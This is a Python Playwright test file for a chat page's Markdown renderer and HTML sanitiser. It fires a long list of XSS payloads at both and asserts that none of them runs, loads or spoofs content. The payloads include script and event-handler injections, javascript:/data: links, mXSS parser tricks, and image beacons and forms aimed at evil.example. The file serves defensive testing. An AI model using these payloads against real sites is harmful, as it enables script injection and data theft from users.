"""Nothing in a model's text runs, loads or dresses up as the page.

The payloads are what the model "answered" (`answer_with`); each is tried through the whole page, and again directly at
the sanitiser, as if the Markdown parser had let it through. `open_page` itself fails a test whose page had an error,
a policy violation among them, or asked another host for anything.
"""

from __future__ import annotations

import json

from playwright.sync_api import Page, expect

from tests.e2e.conftest import OpenPage, answer_with, ask_and_wait, last_answer

HOSTILE = [
    "<script>window.pwned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt >window.pwned=1</sCrIpT>",
    "<script\n>window.pwned=1</script\n>",
    "</p><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=`x` onerror=window.pwned=1 //",
    "<img/src/onerror=window.pwned=1>",
    '<img src="https://evil.example/beacon.png">',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.pwned=1>#x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<iframe src=javascript:window.parent.pwned=1></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=https://evil.example/x.swf>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    '<div onclick=window.pwned=1 onmouseover=window.pwned=1 class="toast">x</div>',
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<button onclick=window.pwned=1 class=send>Send</button>",
    '<form action="https://evil.example/"><input name=key><button>Use key</button></form>',
    "<template><script>window.pwned=1</script></template>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<x-y onclick=window.pwned=1>x</x-y>",
    "<b onmouseover=window.pwned=1>bold</b>",
    "<kbd id=composer-text name=attributes>clobber</kbd>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](java&#10;script:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x](<java\tscript:window.pwned=1>)",
    "[x](\u0001javascript:window.pwned=1)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](blob:http://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/protocol-relative)",
    "[x](/v1/models)",
    '[x](https://ok.example/"onmouseover="window.pwned=1)',
    '[x](https://ok.example "title\\" onmouseover=\\"window.pwned=1")',
    "<javascript:window.pwned=1>",
    "[x][1]\n\n[1]: javascript:window.pwned=1",
    "![x](javascript:window.pwned=1)",
    "![x](https://evil.example/beacon.png?q=secret)",
    "![x][i]\n\n[i]: https://evil.example/beacon.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)",
    '![x](x" onerror="window.pwned=1)',
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "```html\n<script>window.pwned=1</script>\n```",
    "```language-x onclick=window.pwned=1\ncode\n```",
    "`<img src=x onerror=window.pwned=1>`",
    "\\(<img src=x onerror=window.pwned=1>\\)",
    "$$<script>window.pwned=1</script>$$",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | c |",
    "<think><img src=x onerror=window.pwned=1></think>ok",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml version=1?><script>window.pwned=1</script>",
    "＜script＞window.pwned=1＜/script＞",
]

# What may be in an answer: any other tag, attribute or address is a hole.
AUDIT = """(root) => {
    const tags = new Set(("DIV P BR HR H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE EM STRONG B I S DEL INS U SMALL A " +
        "TABLE THEAD TBODY TR TH TD SUB SUP KBD MARK SPAN BUTTON").split(" "));
    const attributes = new Set(
        "class href title align start target rel tabindex role aria-label type dir lang".split(" "));
    const found = [];
    for (const element of root.querySelectorAll("*")) {
        if (!tags.has(element.tagName)) found.push(element.outerHTML.slice(0, 200));
        if (element.tagName === "BUTTON" && element.className !== "copy-code") found.push(element.outerHTML);
        for (const { name, value } of element.attributes) {
            if (!attributes.has(name)) found.push(`${name}=${value}`);
            if (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)) found.push(`href=${value}`);
            const bare = element.target !== "_blank" || !element.rel.includes("noopener");
            if (name === "href" && bare) found.push("a link that keeps a hold on the page");
        }
    }
    return found;
}"""


def check_harmless(page: Page, selector: str = ".prose") -> None:
    assert page.evaluate("window.pwned") is None
    roots = page.query_selector_all(selector)
    assert roots
    for root in roots:
        assert page.evaluate(AUDIT, root) == []


def attach(page: Page, function: str, payloads: list[str]) -> None:
    """Put what a function of markdown.js makes of each payload into the document."""
    page.evaluate(
        """async ([name, payloads]) => {
            const make = (await import("/static/markdown.js"))[name];
            for (const payload of payloads) {
                const root = document.createElement("div");
                root.className = "attached";
                root.append(make(payload));
                document.body.append(root);
            }
        }""",
        [function, payloads],
    )
    page.wait_for_timeout(200)  # whatever would load or fire had its chance


def point_at_everything(page: Page, selector: str) -> None:
    """Send each element the events that handlers wait for."""
    page.evaluate(
        """(selector) => {
            const types = ["mouseover", "focus", "toggle", "load", "error", "begin"];
            for (const element of document.querySelectorAll(`${selector} *`)) {
                for (const type of types) element.dispatchEvent(new Event(type, { bubbles: true }));
                if (element.tagName !== "A") element.click();
            }
        }""",
        selector,
    )


def test_no_payload_survives_the_markdown(open_page: OpenPage) -> None:
    page = open_page()
    attach(page, "markdownToDom", HOSTILE)
    point_at_everything(page, ".attached")
    check_harmless(page, ".attached")


def test_no_payload_survives_the_page(open_page: OpenPage) -> None:
    page = open_page()
    for start in range(0, len(HOSTILE), 12):
        answer_with(page, "\n\n".join(HOSTILE[start : start + 12]))
        ask_and_wait(page, "?")
        check_harmless(page)
    point_at_everything(page, ".prose")
    check_harmless(page)


def test_the_users_own_words_and_titles_are_text(open_page: OpenPage) -> None:
    page = open_page()
    text = "<img src=x onerror=window.pwned=1> **not bold** <b>x</b>"
    answer_with(page, "ok")
    ask_and_wait(page, text)
    assert page.evaluate("window.pwned") is None
    expect(page.locator(".bubble")).to_have_text(text)
    assert page.locator(".bubble *").count() == 0
    assert page.locator(".conversation-title *").count() == 0
    page.reload()
    expect(page.locator(".bubble")).to_have_text(text)
    assert page.evaluate("window.pwned") is None


def test_the_sanitiser_holds_alone(open_page: OpenPage) -> None:
    # Chromium reports the handlers it meets in the inert document that the sanitiser parses into.
    page = open_page(tolerate="Content Security Policy")
    openings = ("", "<p>", "<a href='", "<table>")
    attach(page, "sanitise", [opening + payload for payload in HOSTILE for opening in openings])
    point_at_everything(page, ".attached")
    check_harmless(page, ".attached")


def test_an_image_becomes_a_link(open_page: OpenPage) -> None:
    page = open_page()
    answer_with(page, "![a cat](https://evil.example/cat.png?q=secret) and ![](https://evil.example/2.png)")
    ask_and_wait(page, "draw")
    assert page.locator(".prose img").count() == 0
    expect(page.locator(".prose a").first).to_have_text("🖼 a cat")
    assert page.locator(".prose a").first.get_attribute("href") == "https://evil.example/cat.png?q=secret"


def test_tags_in_a_text_are_shown_not_lost(open_page: OpenPage) -> None:
    page = open_page()
    answer_with(page, "Use <div class='x'> and <script>, H<sub>2</sub>O, a<br>b. Vec<T> is fine.")
    ask_and_wait(page, "html?")
    assert last_answer(page) == "Use <div class='x'> and <script>, H2O, a\nb. Vec<T> is fine."
    expect(page.locator(".prose sub")).to_have_text("2")


MARKDOWN = [  # a text, a selector, what the one element that it finds says
    ("**注意：**请看", "strong", "注意："),
    ("他说**“你好”**然后走了", "strong", "“你好”"),
    ("**bold** and *it*", "strong", "bold"),
    ("请访问https://example.com/a?b=1，然后", "a", "https://example.com/a?b=1"),
    ("见 https://zh.wikipedia.org/wiki/瑞利散射。", "a", "https://zh.wikipedia.org/wiki/瑞利散射"),
    ("(https://example.com/x_(y))", "a", "https://example.com/x_(y)"),
    ("要 3~5天，好的~ ~~删除~~", "del", "删除"),
    (r"公式 \(x_1 + y^2\) 完", "code.language-math", "x_1 + y^2"),
    ("- [x] 完成\n- [ ] 未完", "li:first-child", "☑ 完成"),
    ("| a | b |\n|:-:|--:|\n| 1 | 2 |", 'td[align="right"]', "2"),
    ("第一行\n第二行", "p", "第一行\n第二行"),
    ("# Big", "h3", "Big"),
]


def test_markdown_as_people_write_it(open_page: OpenPage) -> None:
    page = open_page()
    for text, selector, shown in MARKDOWN:
        got = page.evaluate(
            """async ([text, selector]) => {
                const { markdownToDom } = await import("/static/markdown.js");
                const root = document.createElement("div");
                root.append(markdownToDom(text));
                document.body.append(root);
                return [...root.querySelectorAll(selector)].map((element) => element.innerText.trim());
            }""",
            [text, selector],
        )
        assert got == [shown], text


def test_a_growing_text_ends_as_the_whole_one(open_page: OpenPage) -> None:
    """Drawn piece by piece, a text must end in the same DOM as drawn at once."""
    page = open_page()
    text = (
        "# 标题\n\nPara **bold\nnext** line\n\n1. one\n2. two\n   - nested\n\n   loose\n\n"
        "```py\nx = '<b>'\n\n\ny\n```\n\n> quote\nlazy\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link][r] after\n\n"
        "Setext\n===\n\n    indented\n\n* * *\n\n<div>\n\nend\r\nwindows\n\n[r]: https://ok.example\n"
    )
    answer_with(page, text)
    ask_and_wait(page, "all kinds")
    page.wait_for_selector(".prose .hljs-string")
    streamed = page.evaluate("document.querySelector('.prose').innerHTML")
    page.reload()
    page.wait_for_selector(".prose .hljs-string")
    assert page.evaluate("document.querySelector('.prose').innerHTML") == streamed
    assert page.locator(".prose a").get_attribute("href") == "https://ok.example"


def test_the_policy_stands(open_page: OpenPage) -> None:
    """What the page relies on if both walls before it fell."""
    page = open_page()
    response = page.request.get(page.url)
    policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
    for directive in ("default-src", "script-src", "style-src", "connect-src"):
        assert policy[directive] == "'self'"
    assert "unsafe" not in json.dumps(policy)
